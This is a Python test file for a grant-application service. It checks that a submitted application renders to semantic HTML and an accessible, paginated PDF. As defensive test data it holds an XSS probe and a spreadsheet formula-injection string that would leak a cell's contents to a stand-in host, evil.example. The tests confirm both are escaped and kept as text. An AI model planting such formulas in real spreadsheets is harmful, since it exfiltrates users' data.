"""The PDF copy of a submitted application: every kind of answer, hostile text kept as text, readable PDF.

Text is checked by extracting it from the PDF bytes with pypdf (a dev dependency, pure Python), which reads
the fonts' ToUnicode maps the way a screen reader or copy-and-paste does; no system tool is needed, so
these tests never skip.
"""

from __future__ import annotations

import dataclasses
import io
import json
import re

import pypdf
import pytest

from fundapp.applications.documents import (
    TEMPLATE_VERSION,
    AnswerRow,
    ApplicationCopy,
    AttachmentCopy,
    BudgetTable,
    SectionCopy,
    render_application_copy,
    render_application_copy_html,
)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

_SENTENCES = (
    "Our sessions bring together young people from estates across Hackney and Tower Hamlets.",
    "Trained youth workers lead structured conversations about belonging, identity and online hate.",
    "Participants design a campaign for their peers and present it at a community event in the spring.",
    "We measure change with a short questionnaire before and after, and with facilitator observations.",
)


def long_answer(words: int = 400) -> str:
    """A realistic answer of about `words` words in several paragraphs."""
    text: list[str] = []
    count = 0
    index = 0
    while count < words:
        sentence = _SENTENCES[index % len(_SENTENCES)]
        text.append(sentence)
        count += len(sentence.split())
        index += 1
        if index % 5 == 0:
            text.append("\n\n")
    return " ".join(text).replace(" \n\n ", "\n\n")


def sample_copy() -> ApplicationCopy:
    budget = BudgetTable(
        head=("Category", "Description", "Amount"),
        rows=(
            ("Staff", "Youth worker, 2 days a week for 40 weeks", "£18,400"),
            ("Venue hire", "Community hall, 40 sessions", "£3,200"),
            ("Materials", "Campaign printing and workshop materials", "£950"),
            ("Evaluation", "Independent evaluation report", "£2,450"),
        ),
        total="£25,000",
    )
    return ApplicationCopy(
        reference="SEF-6-0042",
        call_name="Shared Endeavour Fund Call 6",
        call_code="SEF-6",
        fund_name="Shared Endeavour Fund",
        organisation_name="Hackney Youth Voices CIC",
        organisation_lines=(
            ("Organisation type", "Community interest company (CIC)"),
            ("Companies House number", "09876543"),
            ("Address", "Unit 4, 12 Mare Street\nLondon\nE8 1HE"),
            ("Website", "https://hackneyyouthvoices.example.org/about-us/our-work-with-young-people"),
            ("Annual income", "£86,500"),
        ),
        submitted_at_text="14 March 2026 at 4:05pm",
        submitted_by="Amara Okafor",
        sections=(
            SectionCopy(
                title="Project summary",
                rows=(
                    AnswerRow(label="Project name", text="Voices Against Hate"),
                    AnswerRow(label="Describe your project in no more than 400 words", text=long_answer()),
                    AnswerRow(
                        label="Which priority themes does your project address?",
                        lines=("Awareness raising", "Promoting prosocial behaviours"),
                    ),
                    AnswerRow(
                        label="Which London boroughs will you work in?", lines=("Hackney", "Tower Hamlets", "Newham")
                    ),
                    AnswerRow(label="Anything else you want to tell us?", text=None),
                ),
            ),
            SectionCopy(
                title="Budget",
                rows=(
                    AnswerRow(label="How much are you asking for?", text="£25,000"),
                    AnswerRow(label="Budget breakdown", table=budget),
                ),
            ),
            SectionCopy(
                title="Risks",
                rows=(
                    AnswerRow(label="What could go wrong?", text=f"Someone could type {SCRIPT} here.\nOr {FORMULA}"),
                    AnswerRow(label="A very long word", text="x" * 300),
                ),
            ),
        ),
        attachments=(
            AttachmentCopy(
                name="safeguarding-policy-2026.pdf",
                size_text="240 KB",
                question_label="Upload your safeguarding policy",
            ),
            AttachmentCopy(name="accounts <2025>.pdf", size_text="1.2 MB", question_label="Latest accounts"),
        ),
        service_name="Shared Endeavour Fund",
        funder_name="Mayor of London",
        support_email="grants@example.org",
    )


@pytest.fixture(scope="module")
def copy() -> ApplicationCopy:
    return sample_copy()


@pytest.fixture(scope="module")
def html(copy: ApplicationCopy) -> str:
    return render_application_copy_html(copy)


@pytest.fixture(scope="module")
def reader(copy: ApplicationCopy) -> pypdf.PdfReader:
    return pypdf.PdfReader(io.BytesIO(render_application_copy(copy)))


@pytest.fixture(scope="module")
def text(reader: pypdf.PdfReader) -> str:
    """The document's text with line breaks and hyphen-free wrapping joined back up."""
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def test_template_version_names_this_document() -> None:
    assert TEMPLATE_VERSION == "application-copy/1"


def test_the_copy_is_plain_values_that_can_be_stored_as_inputs(copy: ApplicationCopy) -> None:
    stored = json.loads(json.dumps(dataclasses.asdict(copy)))
    assert stored["reference"] == "SEF-6-0042"
    assert stored["sections"][1]["rows"][1]["table"]["total"] == "£25,000"
    with pytest.raises(dataclasses.FrozenInstanceError):
        copy.reference = "other"  # type: ignore[misc]


def test_title_and_filename(copy: ApplicationCopy) -> None:
    assert copy.title == "Application SEF-6-0042: Shared Endeavour Fund Call 6"
    assert copy.filename == "application-SEF-6-0042.pdf"
    assert dataclasses.replace(copy, reference="../x y").filename == "application-x-y.pdf"


def test_html_is_semantic(html: str) -> None:
    assert '<html lang="en-GB">' in html
    assert "<title>Application SEF-6-0042: Shared Endeavour Fund Call 6</title>" in html
    assert html.count("<h1>") == 1
    assert "<h2>Project summary</h2>" in html
    assert "<h3>Budget breakdown</h3>" in html
    assert '<th scope="row">Organisation type</th>' in html
    assert '<th scope="col" class="numeric">Amount</th>' in html
    assert '<td class="numeric">£18,400</td>' in html
    # Only the amount column is right-aligned.
    assert '<th scope="col">Description</th>' in html


def test_hostile_text_is_escaped_never_markup(html: str) -> None:
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "accounts &lt;2025&gt;.pdf" in html
    assert "<script" not in html


def test_every_kind_of_answer_is_shown(html: str) -> None:
    assert "<li>Tower Hamlets</li>" in html
    assert "Not answered" in html
    # A long answer keeps its paragraphs.
    assert html.count("Our sessions bring together") >= 5
    assert len(re.findall(r'<p class="pre-line">Our sessions', html)) >= 2


def test_pdf_is_accessible_and_titled(reader: pypdf.PdfReader) -> None:
    assert reader.metadata is not None
    assert reader.metadata.title == "Application SEF-6-0042: Shared Endeavour Fund Call 6"
    catalog = reader.trailer["/Root"]
    assert catalog["/Lang"] == "en-GB"
    assert "/StructTreeRoot" in catalog


def test_long_answers_break_across_pages(reader: pypdf.PdfReader, text: str) -> None:
    assert len(reader.pages) >= 3
    pages = len(reader.pages)
    assert f"Page 1 of {pages}" in text
    assert f"Page {pages} of {pages}" in text
    # The running header carries the reference on every page.
    for page in reader.pages:
        assert "Application SEF-6-0042" in page.extract_text()


@pytest.mark.parametrize(
    "expected",
    [
        "SEF-6-0042",
        "Hackney Youth Voices CIC",
        "Venue hire Community hall, 40 sessions £3,200",
        "Total £25,000",
        "14 March 2026 at 4:05pm",
        "grants@example.org",
        "safeguarding-policy-2026.pdf",
        "Unit 4, 12 Mare Street London E8 1HE",
    ],
)
def test_pdf_text_is_extractable(text: str, expected: str) -> None:
    assert expected in text


def test_hostile_text_reaches_the_pdf_as_text(text: str) -> None:
    assert SCRIPT in text
    assert "=HYPERLINK(" in text
    assert "accounts <2025>.pdf" in text


def test_amount_columns_are_found_and_the_total_sits_under_the_first() -> None:
    table = BudgetTable(
        head=("Category", "Description", "Amount", "Match funding", "Notes"),
        rows=(("Staff", "Youth worker", "£18,400", "£2,000", "Part time"), ("Venue", "Hall", "£3,200", "", "")),
        total="£21,600",
    )
    assert table.numeric_columns == {2, 3}
    assert table.total_column == 2
    assert BudgetTable(head=("Item", "Cost"), rows=(), total="£0").total_column == 1


def test_a_budget_over_several_pages_shows_its_total_once(copy: ApplicationCopy) -> None:
    lines = tuple(
        ("Staff", f"Line {n}: youth work sessions and what they pay for", f"£{n * 100:,}", "") for n in range(1, 70)
    )
    table = BudgetTable(head=("Category", "Description", "Amount", "Match funding"), rows=lines, total="£241,500")
    long_copy = dataclasses.replace(
        copy, sections=(SectionCopy(title="Budget", rows=(AnswerRow(label="Budget breakdown", table=table),)),)
    )
    html = render_application_copy_html(long_copy)
    assert '<th scope="row" colspan="2">Total</th>\n              <td class="numeric">£241,500</td>' in html
    reader = pypdf.PdfReader(io.BytesIO(render_application_copy(long_copy)))
    pages = [page.extract_text() for page in reader.pages]
    table_pages = [text for text in pages if "Line " in text]
    assert len(table_pages) >= 3
    # Column headings repeat on every page of the table; the total appears once, after the last line.
    assert all("Category Description Amount" in " ".join(text.split()) for text in table_pages)
    joined = " ".join(" ".join(pages).split())
    assert joined.count("Total £241,500") == 1
    assert joined.index("Line 69:") < joined.index("Total £241,500")
